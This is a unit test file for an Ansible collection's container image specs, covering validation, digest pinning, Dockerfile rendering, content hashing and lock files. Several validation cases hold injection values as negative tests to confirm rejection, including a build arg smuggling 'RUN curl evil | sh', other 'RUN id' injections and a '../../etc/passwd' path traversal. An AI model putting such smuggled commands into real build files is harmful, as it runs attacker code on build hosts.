"""Image specs (module_utils/_image/_spec.py): validation, the pin sentence, Dockerfile rendering,
the content hash, and the image lock (what it records, how a disagreement is found and said)."""
from __future__ import annotations

import os

import pytest

from ansible_collections.lanekit.serving.plugins.module_utils._errors import LanekitError
from ansible_collections.lanekit.serving.plugins.module_utils._image._spec import (
    content_hash,
    load_image_spec,
    lock_arch_entry,
    lock_differences,
    lock_entry,
    lock_problem,
    merge_lock,
    pin_problem,
    resolve_image,
)
from tests.unit.helpers.docker import DIGEST, IMAGES, OTHER_DIGEST, copy_shipped, make_spec

PATCH = "#!/usr/bin/env python3\nprint('patched')\n"


# -- validation -------------------------------------------------------------------------------------
@pytest.mark.parametrize("mutate, words", [
    (lambda s: s.pop("entrypoint"), "entrypoint"),
    (lambda s: s.update(entrypoint=[]), "entrypoint"),
    (lambda s: s["upstream"].pop("repository"), "upstream.repository"),
    (lambda s: s["upstream"].update(digests={"s390x": DIGEST}), "unknown architecture"),
    (lambda s: s.update(name="other"), "must equal the directory name"),
    (lambda s: s.update(colour="blue"), "is not an image setting"),
    (lambda s: s.update(patches=[{"file": "../../etc/passwd"}]), "is not a file under"),
    (lambda s: s.update(lanes="lane-a"), "must be a list"),
    # a build arg must stay one ARG line: no injected instruction, no joined line, no odd name
    (lambda s: s.update(build_args={"PIP_INDEX": "x\nRUN curl evil | sh"}), "build_args.PIP_INDEX"),
    (lambda s: s.update(build_args={"PIP_INDEX": "x\rRUN id"}), "build_args.PIP_INDEX"),
    (lambda s: s.update(build_args={"PIP_INDEX": "x\\"}), "build_args.PIP_INDEX"),
    (lambda s: s.update(build_args={"A\nRUN id": "1"}), "is not a build argument name"),
    (lambda s: s.update(build_args={"A B": "1"}), "is not a build argument name"),
    (lambda s: s.update(build_args={"9A": "1"}), "is not a build argument name"),
    (lambda s: s.update(build_args={"A": ["1", "2"]}), "build_args.A"),
])
def test_invalid_specs_are_refused_with_the_key(tmp_path, mutate, words):
    spec = make_spec(tmp_path)
    mutate(spec)
    with pytest.raises(LanekitError) as err:
        load_image_spec(str(tmp_path), "thin", data=spec)
    assert words in str(err.value)
    assert "image.yml" in str(err.value)


def test_plain_build_args_are_rendered_as_one_arg_line_each(tmp_path):
    spec = make_spec(tmp_path)
    spec["build_args"] = {"TORCH_CUDA_ARCH_LIST": "8.0 9.0+PTX", "_JOBS": 8}
    resolved = resolve_image(load_image_spec(str(tmp_path), "thin", data=spec), "amd64")
    lines = resolved["dockerfile"].splitlines()
    assert "ARG TORCH_CUDA_ARCH_LIST=8.0 9.0+PTX" in lines and "ARG _JOBS=8" in lines


def test_unknown_image_lists_the_known_ones(tmp_path):
    make_spec(tmp_path, name="thin")
    with pytest.raises(LanekitError) as err:
        load_image_spec(str(tmp_path), "missing")
    assert "known images: thin" in str(err.value)


def test_parsed_data_needs_no_file(tmp_path):
    spec = make_spec(tmp_path, patches={"patches/p.py": PATCH})
    os.unlink(tmp_path / "thin" / "image.yml")
    loaded = load_image_spec(str(tmp_path), "thin", data=spec)
    assert loaded["patches"][0]["path"].endswith("patches/p.py")


# -- the pin --------------------------------------------------------------------------------------
@pytest.mark.parametrize("name, prefix", [("mistral-large4-sglang", "sha256:2f0cd825"),
                                          ("mistral-large4-vllm", "sha256:b046d936")])
def test_shipped_truncated_digests_are_refused_naming_the_variable(name, prefix):
    spec = load_image_spec(IMAGES, name)
    resolved = resolve_image(spec, "arm64", {})
    assert resolved["pinned"] is False
    sentence = resolved["pin_problem"]
    assert f"lanekit_image_digests['{name}']['arm64']" in sentence
    assert prefix in sentence
    assert "truncated digest is not a pin" in sentence
    assert sentence.endswith(".") or sentence.endswith(")."), sentence


def test_missing_arch_digest_names_the_variable(tmp_path):
    spec = load_image_spec(str(tmp_path), "thin", data=make_spec(tmp_path))
    problem = pin_problem(spec, "arm64", None)
    assert "lanekit_image_digests['thin']['arm64']" in problem
    assert "linux/arm64" in problem


def test_tag_is_not_a_pin(tmp_path):
    spec = load_image_spec(str(tmp_path), "thin", data=make_spec(tmp_path))
    assert "not a full digest" in pin_problem(spec, "amd64", "v1")


def test_override_completes_a_truncated_digest():
    spec = load_image_spec(IMAGES, "mistral-large4-sglang")
    resolved = resolve_image(spec, "arm64", {"mistral-large4-sglang": {"arm64": DIGEST}})
    assert resolved["pinned"] and resolved["base_ref"] == f"lmsysorg/sglang@{DIGEST}"


# -- Dockerfile -----------------------------------------------------------------------------------
def test_dockerfile_is_from_digest_with_patches_entrypoint_and_labels():
    spec = load_image_spec(IMAGES, "mistral-large4-sglang")
    resolved = resolve_image(spec, "arm64", {"mistral-large4-sglang": {"arm64": DIGEST}})
    lines = resolved["dockerfile"].splitlines()
    assert lines[1] == f"FROM lmsysorg/sglang@{DIGEST}"
    assert "COPY patches/ /opt/lanekit/patches/" in lines
    assert 'RUN ["python3", "/opt/lanekit/patches/patch_barrier_timeout.py"]' in lines
    assert 'ENTRYPOINT ["/opt/nvidia/nvidia_entrypoint.sh"]' in lines
    labels = [line for line in lines if line.startswith("LABEL ")]
    assert labels == sorted(labels)
    assert f'LABEL "io.lanekit.content-hash"="{resolved["content_hash"]}"' in lines
    assert f'LABEL "io.lanekit.base-digest"="{DIGEST}"' in lines
    assert any(line.startswith('LABEL "io.lanekit.patches"="patches/patch_barrier_timeout.py=') for line in lines)
    assert 'LABEL "io.lanekit.platform"="linux/arm64"' in lines
    assert resolved["ref"] == f"lanekit/mistral-large4-sglang:{resolved['content_hash'][:12]}"


def test_image_without_patches_has_no_copy_or_run(tmp_path):
    spec = load_image_spec(str(tmp_path), "thin", data=make_spec(tmp_path))
    dockerfile = resolve_image(spec, "amd64")["dockerfile"]
    assert "COPY" not in dockerfile and "RUN" not in dockerfile
    assert 'ENTRYPOINT ["engine", "serve"]' in dockerfile


# -- content hash ---------------------------------------------------------------------------------
def _hash(images_dir, arch="amd64", overrides=None, name="thin"):
    return resolve_image(load_image_spec(str(images_dir), name), arch, overrides)["content_hash"]


def test_content_hash_is_stable_and_independent_of_location(tmp_path):
    make_spec(tmp_path / "a", patches={"patches/p.py": PATCH})
    make_spec(tmp_path / "b", patches={"patches/p.py": PATCH})
    first = _hash(tmp_path / "a")
    assert first == _hash(tmp_path / "a")
    assert first == _hash(tmp_path / "b")
    assert len(first) == 64


def test_shipped_sglang_hash_is_the_same_from_a_copy(tmp_path):
    overrides = {"mistral-large4-sglang": {"arm64": DIGEST}}
    copied = copy_shipped(tmp_path, "mistral-large4-sglang")
    assert _hash(copied, "arm64", overrides, "mistral-large4-sglang") == _hash(IMAGES, "arm64", overrides, "mistral-large4-sglang")


def test_content_hash_ignores_the_checkout_umask(tmp_path):
    make_spec(tmp_path, patches={"patches/p.py": PATCH})
    before = _hash(tmp_path)
    os.chmod(tmp_path / "thin" / "patches" / "p.py", 0o664)
    assert _hash(tmp_path) == before


@pytest.mark.parametrize("change", ["patch_text", "patch_mode", "digest", "arch", "build_args", "entrypoint", "new_patch",
                                    "label"])
def test_content_hash_changes_with_every_input(tmp_path, change):
    make_spec(tmp_path, patches={"patches/p.py": PATCH}, digests={"amd64": DIGEST, "arm64": DIGEST})
    before = _hash(tmp_path)
    patch = tmp_path / "thin" / "patches" / "p.py"
    arch, overrides = "amd64", None
    if change == "patch_text":
        patch.write_text(PATCH + "# one more line\n")
    elif change == "patch_mode":
        os.chmod(patch, 0o755)
    elif change == "digest":
        overrides = {"thin": {"amd64": OTHER_DIGEST}}
    elif change == "arch":
        arch = "arm64"
    elif change == "build_args":
        make_spec(tmp_path, patches={"patches/p.py": PATCH}, digests={"amd64": DIGEST, "arm64": DIGEST},
                  build_args={"EXTRA": "1"})
    elif change == "entrypoint":
        make_spec(tmp_path, patches={"patches/p.py": PATCH}, digests={"amd64": DIGEST, "arm64": DIGEST},
                  entrypoint=["engine"])
    elif change == "new_patch":
        make_spec(tmp_path, patches={"patches/p.py": PATCH, "patches/q.py": PATCH},
                  digests={"amd64": DIGEST, "arm64": DIGEST})
    elif change == "label":
        make_spec(tmp_path, patches={"patches/p.py": PATCH}, digests={"amd64": DIGEST, "arm64": DIGEST},
                  labels={"org.example.team": "serving"})
    assert _hash(tmp_path, arch, overrides) != before


def test_content_hash_ignores_description_lanes_empty_labels_and_lock(tmp_path):
    make_spec(tmp_path)
    before = _hash(tmp_path)
    make_spec(tmp_path, description="another description", lanes=["lane-a", "lane-b"], labels={})
    (tmp_path / "thin" / "image.lock.yml").write_text("version: 1\n")
    assert _hash(tmp_path) == before


def test_content_hash_function_matches_resolve(tmp_path):
    spec = load_image_spec(str(tmp_path), "thin", data=make_spec(tmp_path))
    resolved = resolve_image(spec, "amd64")
    assert content_hash(spec, resolved["base_ref"], "amd64") == resolved["content_hash"]


def test_truncated_override_is_blamed_on_the_variable_not_the_spec():
    spec = load_image_spec(IMAGES, "mistral-large4-vllm")
    problem = resolve_image(spec, "amd64", {"mistral-large4-vllm": {"amd64": "sha256:3eee1c86"}})["pin_problem"]
    assert problem.startswith("the inventory or -e value lanekit_image_digests['mistral-large4-vllm']['amd64']")
    assert "image.yml" not in problem and "'sha256:3eee1c86'" in problem


# -- the image lock: what it records, how a disagreement is found and said ---------------------------
ROOTFS = "sha256:" + "ee" * 32


@pytest.fixture
def resolved(tmp_path):
    return resolve_image(load_image_spec(str(tmp_path), "thin", data=make_spec(tmp_path)), "amd64")


def test_entry_records_the_pin_and_drops_empty_fields(resolved):
    entry = lock_entry(resolved, rootfs=ROOTFS, image_id="sha256:" + "01" * 32, builder="spark-01")
    assert entry["content_hash"] == resolved["content_hash"]
    assert entry["base_digest"] == resolved["base_digest"]
    assert entry["rootfs"] == ROOTFS
    assert entry["ref"] == resolved["ref"]
    assert "registry_digest" not in entry and "registry_ref" not in entry


def test_identical_lock_has_no_differences(resolved):
    entry = lock_entry(resolved, rootfs=ROOTFS)
    assert lock_differences(entry, dict(entry)) == []
    assert lock_problem("x/image.lock.yml", "thin", "amd64", []) is None


def test_image_id_is_not_compared(resolved):
    locked = lock_entry(resolved, rootfs=ROOTFS, image_id="sha256:" + "01" * 32)
    now = lock_entry(resolved, rootfs=ROOTFS, image_id="sha256:" + "02" * 32)
    assert lock_differences(locked, now) == []


def test_missing_fields_are_not_compared(resolved):
    locked = lock_entry(resolved, rootfs=ROOTFS, registry_digest="sha256:" + "aa" * 32)
    before_build = {"content_hash": resolved["content_hash"], "base_digest": resolved["base_digest"]}
    assert lock_differences(locked, before_build) == []


def test_changed_spec_is_named_with_the_fix(resolved):
    locked = dict(lock_entry(resolved, rootfs=ROOTFS), content_hash="0" * 64)
    differences = lock_differences(locked, {"content_hash": resolved["content_hash"]})
    assert differences == [f"content_hash: locked {'0' * 64}, now {resolved['content_hash']}"]
    sentence = lock_problem("images/thin/image.lock.yml", "thin", "amd64", differences)
    assert sentence.startswith("images/thin/image.lock.yml pins image 'thin' for amd64")
    assert "no longer builds the locked image" in sentence
    assert "-e image_lock_update=true" in sentence
    assert "no container was touched" in sentence


def test_rebuilt_image_is_explained_as_a_rebuild(resolved):
    locked = lock_entry(resolved, rootfs=ROOTFS)
    differences = lock_differences(locked, dict(locked, rootfs="sha256:" + "ff" * 32))
    sentence = lock_problem("l.yml", "thin", "amd64", differences)
    assert "rebuilt from the same spec but its layers differ" in sentence


def test_merge_keeps_other_architectures(resolved):
    doc = {"version": 1, "name": "thin", "arches": {"arm64": {"content_hash": "a" * 64}}}
    merged = merge_lock(doc, "thin", "amd64", lock_entry(resolved, rootfs=ROOTFS))
    assert list(merged["arches"]) == ["amd64", "arm64"]
    assert merged["arches"]["arm64"] == {"content_hash": "a" * 64}
    assert merged["arches"]["amd64"]["rootfs"] == ROOTFS
    assert merge_lock(None, "thin", "amd64", {"rootfs": ROOTFS})["name"] == "thin"


@pytest.mark.parametrize("doc, words", [
    ({"name": "thin", "arches": ["amd64"]}, "is not an image lock"),
    ({"name": "other", "arches": {}}, "sits next to image 'thin'"),
    ({"name": "thin", "arches": {"amd64": "sha256:x"}}, "must be a mapping"),
])
def test_malformed_lock_is_refused(doc, words):
    with pytest.raises(LanekitError) as err:
        lock_arch_entry(doc, "thin", "amd64", "images/thin/image.lock.yml")
    assert words in str(err.value)


def test_absent_lock_has_no_entry():
    assert lock_arch_entry(None, "thin", "amd64") is None
    assert lock_arch_entry({"name": "thin", "arches": {}}, "thin", "amd64") is None
